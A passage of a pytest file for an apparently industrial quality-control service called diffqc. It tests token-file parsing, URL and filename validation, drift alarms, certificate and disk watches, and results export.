    are files (/run/secrets/diffqc_token). $DIFFQC_TOKEN_FILE names one: one token per line
    (or comma-separated), after --token and $DIFFQC_TOKEN; a file that cannot be read or holds
    no token is said, not a service without a token."""
    monkeypatch.delenv("DIFFQC_TOKEN", raising=False)
    secret = tmp_path / "diffqc_token"
    secret.write_text("first-token-0123456789\nsecond-token-0123456789\n")
    monkeypatch.setenv("DIFFQC_TOKEN_FILE", str(secret))
    assert tokens_from_env(None) == ("first-token-0123456789", "second-token-0123456789")
    assert tokens_from_env("cli") == ("cli",)
    monkeypatch.setenv("DIFFQC_TOKEN", "env")
    assert tokens_from_env(None) == ("env",)
    monkeypatch.delenv("DIFFQC_TOKEN")
    secret.write_text("\n")
    with pytest.raises(ConfigError, match=r"DIFFQC_TOKEN_FILE .*diffqc_token holds no token"):
        tokens_from_env(None)
    monkeypatch.setenv("DIFFQC_TOKEN_FILE", str(tmp_path / "missing"))
    with pytest.raises(ConfigError, match=r"cannot read DIFFQC_TOKEN_FILE .*missing: No such file"):
        tokens_from_env(None)
    # written on Windows (Notepad, PowerShell's Out-File: a byte order mark, CRLF line ends): the
    # first token read as "\ufefffirst-...", and every request with it was refused
    secret.write_bytes("\ufefffirst-token-0123456789\r\nsecond-token-0123456789\r\n".encode())
    monkeypatch.setenv("DIFFQC_TOKEN_FILE", str(secret))
    assert tokens_from_env(None) == ("first-token-0123456789", "second-token-0123456789")
    # a comment line above the tokens (`# line 3: HMI first, then the MES`, as --opcua-users'
    # file takes them) was two more tokens, "then the MES" among them, each accepted
    secret.write_text("# tokens of line 3: HMI first, then the MES\nfirst-token-0123456789\n  # old: x\n")
    assert tokens_from_env(None) == ("first-token-0123456789",)
    # a file far larger than any secret (here /dev/zero, endless) was read until memory ran out
    monkeypatch.setenv("DIFFQC_TOKEN_FILE", "/dev/zero")
    with pytest.raises(ConfigError, match=r"DIFFQC_TOKEN_FILE /dev/zero holds more than 1 MiB: a secret "
                                          r"file holds a token, a password or header lines"):
        tokens_from_env(None)


@pytest.mark.parametrize("field,value", [("buffer_size", 0), ("max_batch", 0), ("max_upload_bytes", 0),
                                         ("max_batch_items", 0), ("retry_after_s", -1),
                                         ("body_timeout_s", 0.0)])
def test_service_settings_refuse_values_that_would_refuse_every_part(field: str, value: float) -> None:
    """The Python API checks what the command line checks as it parses (diffqc.arguments)."""
    from diffqc.service.app import ServiceSettings

    ServiceSettings(allow_no_token=True).validate()
    with pytest.raises(ConfigError, match=field):
        ServiceSettings(allow_no_token=True, **{field: value}).validate()


def test_push_target_urls_at_odd_values_are_refused_as_given_and_without_their_password() -> None:
    """A fuzz of --mqtt and --webhook: a password in a webhook URL was printed with its error (a
    bad port said `http://qc:s3cret@mes:99999/in`, into the journal); port 0 was taken (MQTT's
    silently as 1883); an MQTT prefix `x/#` was said as `'x' may not contain '#'` (the URL's
    fragment); a control character in the prefix, which MQTT forbids in a topic, was taken."""
    from diffqc.service.sinks import check_sink_urls

    for mqtt, webhook, said in [
        (None, "http://qc:s3cret@mes:99999/in", "webhook URL 'http://qc:***@mes:99999/in' has a bad port"),
        (None, "https://mes:0/in", "webhook URL 'https://mes:0/in' has a bad port"),
        ("mqtt://broker:0/line1", None, "MQTT URL 'mqtt://broker:0/line1' has a bad port"),
        ("mqtt://qc:s3cret@broker/line1/#", None,
         "MQTT topic prefix of 'mqtt://qc:***@broker/line1/#' may not contain '+' or '#'"),
        ("mqtt://broker/line\x001", None, "MQTT topic prefix 'line\\x001' may not hold a control character"),
    ]:
        with pytest.raises(ConfigError) as err:
            check_sink_urls(mqtt, webhook)
        assert str(err.value) == said and "s3cret" not in str(err.value)


def test_service_settings_check_push_targets_and_watched_folders(tmp_path: Path) -> None:
    from diffqc.service.app import ServiceSettings

    ServiceSettings(allow_no_token=True, mqtt_url="mqtts://user:pw@broker:8883/plant/line-1",
                    webhook_url="https://mes.example/qc", watch_dirs=(str(tmp_path),)).validate()
    for bad, message in [({"mqtt_url": "mqtt://:1883/x"}, "must look like mqtt://"),
                         ({"mqtt_url": "mqtt://broker/a#"}, "may not contain"),
                         ({"webhook_url": "https://mes:0x50/qc"}, "has a bad port"),
                         ({"webhook_url": "mes.example/qc"}, "must be http://"),
                         ({"watch_dirs": (str(tmp_path / "nope"),)}, "does not exist")]:
        with pytest.raises((ConfigError, FileNotFoundError), match=message):
            ServiceSettings(allow_no_token=True, **bad).validate()
    # a watched folder whose files cannot be moved into processed/ (a regular file in its way,
    # as a read-only share refuses): refused before anything starts, naming what to run instead
    from diffqc.errors import OutputError

    (tmp_path / "processed").write_text("in the way")
    with pytest.raises(OutputError, match=r"processed.*diffqc watch DIR MODEL --keep"):
        ServiceSettings(allow_no_token=True, watch_dirs=(str(tmp_path),)).validate()


def test_upload_limits() -> None:
    check_content_length("10", 10)
    check_content_length(None, 10)
    check_content_length("junk", 10)
    with pytest.raises(UploadTooLarge):
        check_content_length("11", 10)

    async def chunks(n: int) -> Any:
        for _ in range(n):
            yield b"x" * 4

    assert asyncio.run(read_limited(chunks(2), 8)) == b"x" * 8
    with pytest.raises(UploadTooLarge):
        asyncio.run(read_limited(chunks(3), 8))


def test_image_header_guard() -> None:
    buf = io.BytesIO()
    Image.new("RGB", (300, 200)).save(buf, format="PNG")
    assert check_image_header(buf.getvalue(), 60_000) == (300, 200, "PNG")
    with pytest.raises(ImageTooLarge, match="300x200"):
        check_image_header(buf.getvalue(), 59_999)
    assert check_image_header(b"not an image", 10) == (0, 0, None)


def test_safe_child(tmp_path: Path) -> None:
    good = "0123456789abcdef0123456789abcdef.png"
    assert safe_child(tmp_path, good) == tmp_path.resolve() / good
    for bad in ["../" + good, good.upper(), "x.png", good + ".exe", "0123456789abcdef0123456789abcdef.svg"]:
        assert safe_child(tmp_path, bad) is None


def test_overlay_scales_from_calibration_summary() -> None:
    from diffqc.visualize import overlay_scales

    summary = {"types": {"a": {"median": 1.0, "max": 1.5}, "b": {"median": 2.0, "max": 2.0}, "c": {"n": 3}}}
    assert overlay_scales(summary) == {"a": (1.0, 2.0)}
    assert overlay_scales({}) == {}


def test_cli_registration_parses_the_three_commands() -> None:
    import argparse

    from diffqc.service import add_service_commands

    parser = argparse.ArgumentParser()
    add_service_commands(parser.add_subparsers(dest="command"))
    a = parser.parse_args(
        [
            "serve",
            "m",
            "--port",
            "9000",
            "--token",
            "t1",
            "--token",
            "t2",
            "--overflow",
            "drop_oldest",
            "--cors-origin",
            "https://hmi",
        ]
    )
    assert a.port == 9000 and a.token == ["t1", "t2"] and a.overflow == "drop_oldest"
    assert a.cors_origin == ["https://hmi"] and a.host == "127.0.0.1" and callable(a.func)
    w = parser.parse_args(["watch", "dir", "m", "--once", "--keep"])
    assert w.dir == "dir" and w.once and w.keep and callable(w.func)
    e = parser.parse_args(["results", "export", "out", "--db", "x.db"])
    assert e.out == "out" and e.db == "x.db" and callable(e.func)
    with pytest.raises(SystemExit):
        parser.parse_args(["serve", "m", "--overflow", "sometimes"])


def test_a_verdict_given_before_the_history_was_kept_is_not_lost(tmp_path: Path) -> None:
    """A store written by an older diffqc has verdicts but no review history: the first change of
    such a verdict enters the old one in the history before the new one (a second reviewer's
    verdict replaced the first's without a trace)."""
    import sqlite3

    db = str(tmp_path / "old.db")
    with ResultStore(db) as store:
        (rec,) = store.insert_many([_rec("p1", "REVIEW")])
        store.set_review(rec.id or 0, "GOOD", "ann", "a smudge")
    with contextlib.closing(sqlite3.connect(db)) as conn, conn:
        conn.execute("DROP TABLE diffqc_reviews")  # as an older diffqc left it
    with ResultStore(db) as store:
        assert store.review_history(rec.id or 0) == []
        store.set_review(rec.id or 0, "BAD", "bob", None)
        history = store.review_history(rec.id or 0)
    assert [(h["review"], h["reviewer"], h["review_note"]) for h in history] == [
        ("GOOD", "ann", "a smudge"), ("BAD", "bob", None)]
    assert history[0]["reviewed_at"] < history[1]["reviewed_at"]


def test_serve_names_the_dashboards_address() -> None:
    """`serve` logged the address it listens on; the operator had to know the dashboard's path,
    and `--host 0.0.0.0` is no address a browser opens. On the default 127.0.0.1 the line's
    tablet or another PC found nothing there ("connection refused"), without a word at the start
    that only this computer reaches it: said, with the option that serves the network."""
    from diffqc.service.app import listening_line, page_url

    assert page_url("127.0.0.1", 8080) == "http://127.0.0.1:8080/dashboard"
    assert page_url("0.0.0.0", 80) == page_url("::", 80) == "http://localhost:80/dashboard"
    assert page_url("::1", 8080) == "http://[::1]:8080/dashboard"
    for here in ("127.0.0.1", "::1", "localhost"):
        assert "only this computer reaches it: --host 0.0.0.0 serves the network too" in listening_line(
            "http", here, 8000), here
    assert listening_line("https", "0.0.0.0", 443) == ("listening on https://0.0.0.0:443, dashboard at "
                                                       "https://localhost:443/dashboard, API at "
                                                       "https://localhost:443/docs (Ctrl+C to stop)")


def test_refused_requests_are_said_once_then_once_a_minute_with_the_count() -> None:
    """Per client address: the first refusal said at once (with why), then what came in each
    minute, counted by reason; a bounded number of addresses is remembered."""
    from diffqc.service.security import RefusedRequests

    refused = RefusedRequests(every_s=60.0, max_clients=2)
    first = refused.refuse("10.0.0.5", "wrong_token", 1000.0)
    assert first is not None and first.startswith("refused a request from 10.0.0.5 with a wrong API token")
    assert [refused.refuse("10.0.0.5", r, 1000.0 + i) for i, r in
            enumerate(["wrong_token", "wrong_token", "no_token"])] == [None, None, None]
    later = refused.refuse("10.0.0.5", "wrong_token", 1061.0)
    assert later == ("refused 4 requests from 10.0.0.5 in the last 61 s: 1 without an API token, "
                     "3 with a wrong API token")
    assert refused.refuse("10.0.0.6", "no_token", 1062.0) is not None  # another client: its own
    assert refused.refuse("10.0.0.7", "no_token", 1063.0) is not None  # the oldest address forgotten
    assert len(refused._clients) == 2 and refused.totals == {"wrong_token": 4, "no_token": 3}


# ----------------------------------------------------------------------------- line
def test_line_services_watch_drift_per_camera_and_name_the_camera(tmp_path: Path,
                                                                   caplog: pytest.LogCaptureFixture) -> None:
    """Each stored record's camera reaches the drift watch: parts of one type from two cameras,
    one of them giving p-values far below uniform, raise that camera's alarm, named in the log
    and in the line's status."""
    import logging
    import time
    from types import SimpleNamespace

    from diffqc.service.line import LineServices
    from diffqc.service.store import ResultRecord, ResultStore

    settings = SimpleNamespace(drift_window=20, drift_min_parts=10, drift_level=0.01)
    with ResultStore(str(tmp_path / "r.db")) as store, caplog.at_level(logging.WARNING, logger="diffqc"):
        line = LineServices(settings, store, None, None)
        for i in range(20):
            camera = "cam-b" if i % 2 else "cam-a"
            p = 0.001 if camera == "cam-b" else (i + 0.5) / 20
            line.on_record(ResultRecord(created_at=time.time(), source="test", decision="PASS",
                                        feature_type="edge", p_value=p, camera=camera), 0.01)
        cameras = line.status()["drift"]["edge"]["cameras"]
    assert cameras["cam-b"]["alarm"] and not cameras["cam-a"]["alarm"]
    assert "drift ALARM for type 'edge' on camera 'cam-b'" in caplog.text, caplog.text


def test_a_drift_alarm_outlives_a_restart_of_the_service(tmp_path: Path,
                                                        caplog: pytest.LogCaptureFixture) -> None:
    """A restart (the operator's first remedy) emptied the drift windows and dropped a raised
    alarm without a word: the dashboard showed the type OK, and the alarm retained on the MQTT
    broker was never cleared. The raised alarms are kept in the store; a new service raises them
    again and clears them (aloud, to the sinks) once its parts show the line in order."""
    import logging
    import time
    from types import SimpleNamespace

    from diffqc.service.line import LineServices
    from diffqc.service.store import ResultRecord, ResultStore

    settings = SimpleNamespace(drift_window=20, drift_min_parts=10, drift_level=0.01)

    def part(p: float) -> ResultRecord:
        return ResultRecord(created_at=time.time(), source="test", decision="PASS", feature_type="edge",
                            p_value=p)

    with ResultStore(str(tmp_path / "r.db")) as store:
        first = LineServices(settings, store, None, None)
        for _ in range(10):
            first.on_record(part(0.001), 0.01)
        since = first.status()["drift"]["edge"]["alarm_since"]
        assert since is not None
    with ResultStore(str(tmp_path / "r.db")) as store, caplog.at_level(logging.INFO, logger="diffqc"):
        again = LineServices(settings, store, None, None)
        heard = []
        again.drift.listeners.append(heard.append)
        edge = again.status()["drift"]["edge"]
        assert edge["alarm"] and edge["alarm_since"] == since and edge["window_parts"] == 0
        assert "drift alarm for type 'edge'" in caplog.text and "before the restart" in caplog.text
        for i in range(10):
            again.on_record(part((i + 0.5) / 10), 0.01)
        assert [(e.feature_type, e.alarm) for e in heard] == [("edge", False)]
    with ResultStore(str(tmp_path / "r.db")) as store:
        line = LineServices(settings, store, None, None)
        assert not line.status()["drift"]  # cleared: nothing kept
        for _ in range(10):
            line.on_record(part(0.001), 0.01)
        assert list(store.meta_items("drift_alarm/")) == ['drift_alarm/["edge", null]']
        line.drift.reset()  # a new calibration: the alarm is cleared aloud, and forgotten
        assert store.meta_items("drift_alarm/") == {}


def test_services_sharing_a_store_keep_their_drift_alarms_apart(tmp_path: Path) -> None:
    """Stations sharing one store (a PostgreSQL for the plant) kept their raised drift alarms
    under one key per type: one station's restart raised the other's alarm, and one clearing
    its alarm removed the other's kept one. A service's `--station` names its kept alarms."""
    import time
    from types import SimpleNamespace

    from diffqc.service.line import LineServices
    from diffqc.service.store import ResultRecord, ResultStore

    def settings(station: str | None) -> SimpleNamespace:
        return SimpleNamespace(drift_window=20, drift_min_parts=10, drift_level=0.01, watch_station=station)

    def part(p: float) -> ResultRecord:
        return ResultRecord(created_at=time.time(), source="test", decision="PASS", feature_type="edge",
                            p_value=p)

    with ResultStore(str(tmp_path / "r.db")) as store:
        a = LineServices(settings("st-a"), store, None, None)
        for _ in range(10):
            a.on_record(part(0.001), 0.01)
        assert a.status()["drift"]["edge"]["alarm"]
        b = LineServices(settings("st-b"), store, None, None)  # station B restarts
        assert "edge" not in b.status()["drift"]  # not A's alarm
        for i in range(10):  # B's line is in order
            b.on_record(part((i + 0.5) / 10), 0.01)
        unscoped = LineServices(settings(None), store, None, None)  # a service without --station
        assert "edge" not in unscoped.status()["drift"]
        a_again = LineServices(settings("st-a"), store, None, None)  # A restarts: its alarm stays
        assert a_again.status()["drift"]["edge"]["alarm"]
        assert list(store.meta_items("drift_alarm/")) == ['drift_alarm/["edge", null, "st-a"]']


def test_a_restarted_service_tests_drift_on_its_stored_parts(tmp_path: Path) -> None:
    """The drift windows lived in memory only: a service restarted, or `watch --once` run by cron
    (a batch each run), tested no part until 30 of a type came in that run. The windows are
    refilled from the store's latest parts of each type the model knows (not NOT_INSPECTED
    parts, nor mis-routed ones, nor parts older than the calibration), so the first new part is
    tested against them."""
    from types import SimpleNamespace

    from diffqc.service.line import LineServices
    from diffqc.service.store import ResultRecord, ResultStore

    from .conftest import calibrated_an_hour_ago

    bundle, settings, now = calibrated_an_hour_ago(tmp_path)
    detector = SimpleNamespace(classes_=["edge", "dots"], path=bundle)

    def part(p: float, **kw: object) -> ResultRecord:
        fields: dict = {"created_at": now - 60, "source": "test", "decision": "REJECT",
                        "feature_type": "edge", "predicted_type": "edge", "type_known": True, "p_value": p,
                        "camera": "cam-a", **kw}
        return ResultRecord(**fields)

    with ResultStore(str(tmp_path / "r.db")) as store:
        unused = [part(0.9, predicted_type="dots"), part(0.9, decision="NOT_INSPECTED", p_value=None)]
        store.insert_many([part(0.9, created_at=now - 7200)] * 5  # before the calibration: not used
                          + [part(0.001) for _ in range(12)] + unused)
        line = LineServices(settings, store, None, detector)
        edge = line.status()["drift"]["edge"]
        assert edge["window_parts"] == 12 and not edge["alarm"] and edge["misrouted_total"] == 0
        heard = []
        line.drift.listeners.append(heard.append)
        line.on_record(part(0.001), 0.01)
        assert [(e.feature_type, e.alarm) for e in heard] == [("edge", True)]


def test_a_restart_refills_each_cameras_window_with_its_own_parts(tmp_path: Path) -> None:
    """A restart gave a type's camera windows their share of the type's latest parts: two
    cameras taking turns got half a window each, and a camera's window was tested only when
    half a window was ``min_parts`` or more. Each camera seen among the type's latest parts
    gets its own latest parts back, a full window."""
    import time
    from types import SimpleNamespace

    from diffqc.service.line import LineServices
    from diffqc.service.store import ResultRecord, ResultStore

    settings = SimpleNamespace(drift_window=20, drift_min_parts=15, drift_level=0.01, model_path=None,
                               calibration_poll_s=1.0)
    detector = SimpleNamespace(classes_=["edge"], path=None)
    now = time.time()

    def part(i: int) -> ResultRecord:  # cam-a's lamp has aged: its parts score low; cam-b's do not
        camera = "cam-a" if i % 2 == 0 else "cam-b"
        return ResultRecord(created_at=now - 600 + i, source="test", decision="PASS", feature_type="edge",
                            predicted_type="edge", type_known=True, camera=camera,
                            p_value=0.002 if camera == "cam-a" else 0.3 + 0.6 * (i % 7) / 7)

    with ResultStore(str(tmp_path / "r.db")) as store:
        store.insert_many([part(i) for i in range(60)])
        line = LineServices(settings, store, None, detector)
        edge = line.status()["drift"]["edge"]
        assert edge["window_parts"] == 20
        assert {c: v["window_parts"] for c, v in edge["cameras"].items()} == {"cam-a": 20, "cam-b": 20}
        heard = []
        line.drift.listeners.append(heard.append)
        line.on_record(part(60), 0.01)
        assert ("edge", "cam-a", True) in [(e.feature_type, e.camera, e.alarm) for e in heard]


def test_a_restarted_station_refills_its_drift_windows_with_its_own_parts(tmp_path: Path) -> None:
    """Stations on one store: a restarted service refilled its drift windows with the type's
    latest parts of every station, so another station's drift (its lamp ageing) raised an alarm
    here, under this station, pushed to this line's receivers. With ``--station`` a service
    refills from its station's parts and those sent without one, as its overdue parts resume."""
    import time
    from types import SimpleNamespace

    from diffqc.service.line import LineServices
    from diffqc.service.store import ResultRecord, ResultStore

    now = time.time()

    def part(i: int, station: str | None, p: float) -> ResultRecord:
        return ResultRecord(created_at=now - 600 + i, source="test", decision="PASS", feature_type="edge",
                            predicted_type="edge", type_known=True, station=station, p_value=p)

    with ResultStore(str(tmp_path / "r.db")) as store:
        store.insert_many([part(i, "A", 0.3 + 0.6 * (i % 7) / 7) for i in range(6)]
                          + [part(i, None, 0.3 + 0.6 * (i % 5) / 5) for i in range(6, 12)]
                          + [part(i, "B", 0.002) for i in range(12, 40)])  # B's drifting
        settings = SimpleNamespace(drift_window=20, drift_min_parts=10, drift_level=0.01, model_path=None,
                                   calibration_poll_s=1.0, station="A")
        line = LineServices(settings, store, None, SimpleNamespace(classes_=["edge"], path=None))
        edge = line.status()["drift"]["edge"]
        assert edge["window_parts"] == 12 and not edge["alarm"]  # A's 6 and the 6 without a station
        heard = []
        line.drift.listeners.append(heard.append)
        line.on_record(part(41, "A", 0.5), 0.01)
        assert not [e for e in heard if e.alarm]


def test_clock_watch_names_a_stepped_clock_and_one_never_set(caplog: pytest.LogCaptureFixture) -> None:
    """Every record carries the wall clock's time. An edge box without a clock battery boots at
    a date long past until NTP is reached, then steps; an operator sets it by hand: records on
    either side of a step are that far apart, and `--since` and the dashboard's rates count by
    them. A step of more than a minute against the boot-time clock is logged and counted (a
    slew of a second is not), and a clock that reads before the model was trained is named."""
    import logging

    from diffqc.service.line import ClockWatch

    trained = 1_796_000_000.0  # 2026-11-29
    wall, boot = [trained - 400 * 86400.0], [100.0]  # a clock never set: a year before training
    watch = ClockWatch(trained, wall=lambda: wall[0], boot=lambda: boot[0])
    with caplog.at_level(logging.INFO, logger="diffqc"):
        first = watch.check()
        assert first["behind_model"] and first["steps_total"] == 0
        assert caplog.text.count("before this model was trained") == 1, caplog.text
        wall[0] = trained + 5 * 86400.0  # NTP reached: the clock steps 405 days forward
        boot[0] += 1.0
        stepped = watch.check()
        assert not stepped["behind_model"] and stepped["steps_total"] == 1
        assert stepped["last_step_s"] == pytest.approx(405 * 86400.0 - 1.0)
        assert "the system clock stepped forward by 34991999 s" in caplog.text, caplog.text
        wall[0] += 0.5  # NTP's slew: half a second in two
        boot[0] += 2.0
        assert watch.check()["steps_total"] == 1
        wall[0] -= 3600.0  # set back an hour by hand
        boot[0] += 1.0
        assert watch.check()["steps_total"] == 2 and "stepped back by 3601 s" in caplog.text
    assert 'diffqc_clock_steps_total 2' in watch.metrics_lines()


def test_certificate_expiry_reads_the_served_certificates_not_after(tmp_path: Path) -> None:
    """The date a TLS certificate stops being accepted, read from the PEM file ``serve
    --tls-cert`` takes: the first certificate's (the server's own, its chain after it), in a
    certificate-only file and in a combined PEM whose key comes first; None where the file
    holds no certificate or cannot be read."""
    import datetime as dt

    import trustme

    from diffqc.service.security import certificate_expiry

    ca = trustme.CA()
    until = dt.datetime(2031, 5, 17, 8, 30, 5, tzinfo=dt.UTC)
    leaf = ca.issue_cert("localhost", not_after=until)
    alone, combined = tmp_path / "cert.pem", tmp_path / "combined.pem"
    leaf.cert_chain_pems[0].write_to_path(str(alone))
    leaf.private_key_and_cert_chain_pem.write_to_path(str(combined))
    assert certificate_expiry(alone) == until.timestamp()
    assert certificate_expiry(combined) == until.timestamp()
    (tmp_path / "key.pem").write_bytes(leaf.private_key_pem.bytes())
    assert certificate_expiry(tmp_path / "key.pem") is None
    assert certificate_expiry(tmp_path / "absent.pem") is None


def test_certificate_watch_serves_renewed_files_once_they_are_whole(tmp_path: Path) -> None:
    """A renewal writes the certificate and then its key: served between the two, the pair
    would not fit. Changed files are served once they stayed as they are for one look, and
    then once; a reload that fails is tried again only when the files change again."""
    import datetime as dt
    import os

    import trustme

    from diffqc.service.line import CertificateWatch

    ca, now = trustme.CA(), dt.datetime.now(dt.UTC).replace(microsecond=0)
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"

    def write(days: int, which: str = "both") -> None:
        leaf = ca.issue_cert("localhost", not_after=now + dt.timedelta(days=days))
        if which in ("both", "cert"):
            leaf.cert_chain_pems[0].write_to_path(str(cert))
        if which in ("both", "key"):
            leaf.private_key_pem.write_to_path(str(key))
        for path in (cert, key):  # a new second each write: the change is seen on any file system
            os.utime(path, ns=(os.stat(path).st_mtime_ns + 10**9,) * 2)

    write(5)
    calls: list[int] = []
    fail = [False]

    def reload() -> None:
        calls.append(1)
        if fail[0]:
            raise ValueError("not the key of the certificate")

    watch = CertificateWatch(cert, key=key, reload=reload)
    assert not watch.renew() and not calls  # nothing changed
    write(90, "cert")
    assert not watch.renew() and not calls  # changed: wait one look
    write(90, "key")
    assert not watch.renew() and not calls  # changed again: wait again
    assert watch.renew() and len(calls) == 1 and watch.reloads == 1
    assert watch.not_after == (now + dt.timedelta(days=90)).timestamp()
    assert not watch.renew() and len(calls) == 1  # served: not again
    fail[0] = True
    write(120)
    assert not watch.renew() and not watch.renew() and len(calls) == 2  # tried once, failed
    assert not watch.renew() and len(calls) == 2 and watch.reloads == 1
    assert watch.not_after == (now + dt.timedelta(days=90)).timestamp()  # the working one stays


def test_certificate_watch_warns_before_the_served_certificate_expires(
        tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """uvicorn reads the certificate once, at start, and serves it until it expires; then every
    client that checks certificates (browsers, the MES) refuses the service. The watch says so
    ahead (``warn_days``), once, and says when the file on disk was renewed but the service
    still serves the old one (a restart picks it up)."""
    import datetime as dt
    import logging

    import trustme

    from diffqc.service.line import CertificateWatch

    ca = trustme.CA()
    now = dt.datetime.now(dt.UTC)
    cert = tmp_path / "cert.pem"
    leaf = ca.issue_cert("localhost", not_after=now + dt.timedelta(days=60))
    leaf.cert_chain_pems[0].write_to_path(str(cert))
    watch = CertificateWatch(cert, warn_days=14)
    with caplog.at_level(logging.INFO, logger="diffqc"):
        status = watch.check()
        assert not status["expiring"] and not status["expired"] and not status["renewed_on_disk"]
        assert 59 < status["days_left"] <= 60 and caplog.text == ""
        watch.warn_days = 90  # 60 days left now count as soon
        status = watch.check()
        watch.check()
        assert status["expiring"] and not status["expired"]
        assert caplog.text.count("expires on") == 1 and "renew it" in caplog.text, caplog.text
        later = now + dt.timedelta(days=400)
        ca.issue_cert("localhost", not_after=later).cert_chain_pems[0].write_to_path(str(cert))
        status = watch.check()
        watch.check()
        assert status["renewed_on_disk"] and 59 < status["days_left"] <= 60  # still the old one served
        assert status["file_not_after"] == later.replace(microsecond=0).timestamp()
        assert caplog.text.count("was renewed") == 1 and "restart" in caplog.text, caplog.text
    caplog.clear()
    old = tmp_path / "old.pem"
    ca.issue_cert("localhost", not_before=now - dt.timedelta(days=30),
                  not_after=now - dt.timedelta(days=2)).cert_chain_pems[0].write_to_path(str(old))
    with caplog.at_level(logging.INFO, logger="diffqc"):
        status = CertificateWatch(old).check()
    assert status["expired"] and status["days_left"] < 0
    assert "expired on" in caplog.text and "refuse" in caplog.text, caplog.text


def test_disk_watch_says_when_the_stores_file_system_runs_low(tmp_path: Path,
                                                              caplog: pytest.LogCaptureFixture) -> None:
    """Records are never deleted: a line's store grows until its disk is full, and then no
    part can be stored. The free space of the store's and the data folder's file systems is
    watched: low below ``min_free_bytes`` or ``min_free_ratio``, said in the log once when it
    turns low and once when it recovers; folders on one file system are one entry."""
    import logging
    import shutil

    from diffqc.service.line import DiskWatch

    (tmp_path / "data").mkdir()
    free = shutil.disk_usage(tmp_path).free
    watch = DiskWatch([tmp_path / "results.db", tmp_path / "data"], min_free_bytes=free + 2**40,
                      min_free_ratio=0.0)
    with caplog.at_level(logging.INFO, logger="diffqc"):
        [fs] = watch.check()
        watch.check()
        assert fs["low"] and fs["path"] == str(tmp_path)
        assert 0 < fs["free_bytes"] <= fs["total_bytes"] and 0 < fs["free_ratio"] <= 1
        assert caplog.text.count("is nearly full") == 1, caplog.text
        assert "records are never deleted" in caplog.text
        watch.min_free_bytes = 0
        [fs] = watch.check()
        assert not fs["low"] and caplog.text.count("has room again") == 1
    never = DiskWatch([tmp_path / "absent" / "results.db"], min_free_bytes=1, min_free_ratio=0.0)
    [fs] = never.check()  # a folder not made yet: its nearest existing parent's file system
    assert fs["path"] == str(tmp_path) and not fs["low"]


def test_model_watch_loads_a_retrained_model_or_a_new_export_not_a_recalibration(tmp_path: Path) -> None:
    """The bundle is loaded again for another model (a retrain's metadata.json, written last)
    or a new export (export.json), each once complete; `diffqc calibrate` also rewrites
    metadata.json, under the same model id: that is the calibration watch's, not a reload."""
    import json
    import os

    from diffqc.service.line import ModelWatch

    meta = tmp_path / "metadata.json"

    def write(path: Path, data: dict) -> None:
        path.write_text(json.dumps(data))
        os.utime(path, ns=(os.stat(path).st_mtime_ns + 10**9,) * 2)  # a new second on any file system

    write(meta, {"model_id": "m1"})
    loads: list[int] = []
    watch = ModelWatch(tmp_path, "m1", lambda: loads.append(1) or f"detector-{len(loads)}")

    def settle() -> Any:
        first = watch.check()
        return first if first is not None else watch.check()

    write(meta, {"model_id": "m1", "recalibrated": {"at": "now"}})  # diffqc calibrate
    assert settle() is None and not loads and watch.reloads == 0
    write(tmp_path / "export.json", {"fastest_first": ["onnx"]})  # diffqc export
    assert settle() == ("detector-1", False) and watch.model_id == "m1"
    write(meta, {"model_id": "m2"})  # diffqc train DATA --out SERVED
    assert settle() == ("detector-2", True) and watch.model_id == "m2" and watch.reloads == 2
    assert watch.check() is None and len(loads) == 2


def test_cli_results_parts_prints_each_parts_verdict(tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    """``diffqc results parts``: a part seen as one crop per type gets one verdict, the worst of
    its types' latest images, in the order of its first image; images without a part id are named."""
    import csv
    import json

    from diffqc.cli import main
    from diffqc.service.store import NOT_INSPECTED

    db = tmp_path / "line.db"
    t0 = 1_700_000_000.0
    with ResultStore(str(db)) as store:
        store.insert_many([
            _rec("P-1", created_at=t0, feature_type="a", type_known=True, line="L1"),
            _rec("P-2", "REVIEW", created_at=t0 + 1, feature_type="a", type_known=True, line="L1"),
            _rec("P-1", NOT_INSPECTED, created_at=t0 + 2, feature_type="b", line="L1"),
            _rec("P-2", created_at=t0 + 3, feature_type="b", type_known=True, line="L1"),
            _rec("P-1", created_at=t0 + 4, feature_type="b", type_known=True, line="L1"),  # b again
            _rec("P-3", "REJECT", created_at=t0 + 5, feature_type="a", type_known=True, line="L2"),
        ])
        store.insert(ResultRecord(created_at=t0 + 6, source="http", decision="PASS", feature_type="a"))
        store.set_review(2, "GOOD", "ann", None)
    assert main(["results", "parts", "--db", str(db)]) == 0
    out = capsys.readouterr()
    rows = [json.loads(x) for x in out.out.splitlines()]
    assert [(r["part_id"], r["decision"], r["images"], r["superseded"]) for r in rows] == [
        ("P-1", "PASS", 2, 1), ("P-2", "REVIEW", 2, 0), ("P-3", "REJECT", 1, 0)]
    assert rows[0]["types"] == {"a": "PASS", "b": "PASS"} and rows[1]["review"] == "GOOD"
    assert rows[0]["first"] == "2023-11-14T22:13:20.000Z" and rows[0]["last"].endswith("24.000Z")
    assert "stored images without a part id (in no part): 1" in out.err
    assert "diffqc: 3 parts: PASS 1 (33.3 %), REVIEW 1 (33.3 %), REJECT 1 (33.3 %)" in out.err
    assert main(["results", "parts", "--db", str(db), "--decision", "reject", "--format", "csv"]) == 0
    table = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(r["part_id"], r["decision"], r["types"]) for r in table] == [("P-3", "REJECT", "a=REJECT")]
    # a period that ends before P-1's crop of b was sent again: the crop not inspected decides
    assert main(["results", "parts", "--db", str(db), "--line", "L1", "--until", str(t0 + 3.5)]) == 0
    verdicts = [json.loads(x)["decision"] for x in capsys.readouterr().out.splitlines()]
    assert verdicts == [NOT_INSPECTED, "REVIEW"]
    assert main(["results", "parts", "--db", str(db), "--part-id", "P-9"]) == 0
    assert "no part matches" in capsys.readouterr().err
    # --part-window 1.5: P-1's crop of a, 4 s before its latest, is an earlier part's; so is
    # P-2's REVIEW crop, 2 s before its latest: P-2 passes
    assert main(["results", "parts", "--db", str(db), "--part-id", "P-1", "--part-window", "1.5"]) == 0
    windowed = json.loads(capsys.readouterr().out)
    assert (windowed["types"], windowed["images"], windowed["superseded"]) == ({"b": "PASS"}, 1, 2)
    summary = ["results", "summary", "--db", str(db), "--parts", "--format", "jsonl"]
    for window, counts in ((["--part-window", "1.5"], (2, 0, 1)), ([], (1, 1, 1))):
        assert main([*summary, *window]) == 0
        everything = json.loads(capsys.readouterr().out.splitlines()[-1])
